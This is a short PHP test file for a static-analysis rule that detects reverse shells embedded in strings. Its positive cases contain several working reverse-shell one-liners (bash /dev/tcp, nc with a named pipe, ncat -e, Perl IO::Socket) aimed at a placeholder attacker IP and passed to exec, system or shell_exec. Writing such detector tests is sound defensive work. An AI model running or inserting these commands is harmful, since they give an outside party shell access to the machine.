<?php
function first($host)
{
    // ruleid: php-reverse-shell-in-string
    $line = "bash -c 'bash -i >& /dev/tcp/$host/8443 0>&1'";
    exec($line);
}

// ruleid: php-reverse-shell-in-string
system('mkfifo /var/tmp/p; sh -i 2>&1 </var/tmp/p | nc 198.51.100.3 9001 >/var/tmp/p');

// ruleid: php-reverse-shell-in-string
shell_exec('ncat 198.51.100.3 9001 -e /bin/sh');

class Unit
{
    // ruleid: php-reverse-shell-in-string
    const HELP = 'perl -MIO::Socket -e \'$s=IO::Socket::INET->new("198.51.100.3:53"); open STDIN, ">&", $s; exec "/bin/sh -i"\' &';
}

// ok: php-reverse-shell-in-string
exec('nc -z -w 2 localhost 80');

// ok: php-reverse-shell-in-string
system("sh -c 'ls | sort'");

// ok: php-reverse-shell-in-string
exec('bash /opt/unit/socket.sh > /dev/null 2>&1');

// ok: php-reverse-shell-in-string
echo 'The port is open: telnet to it and press return.';
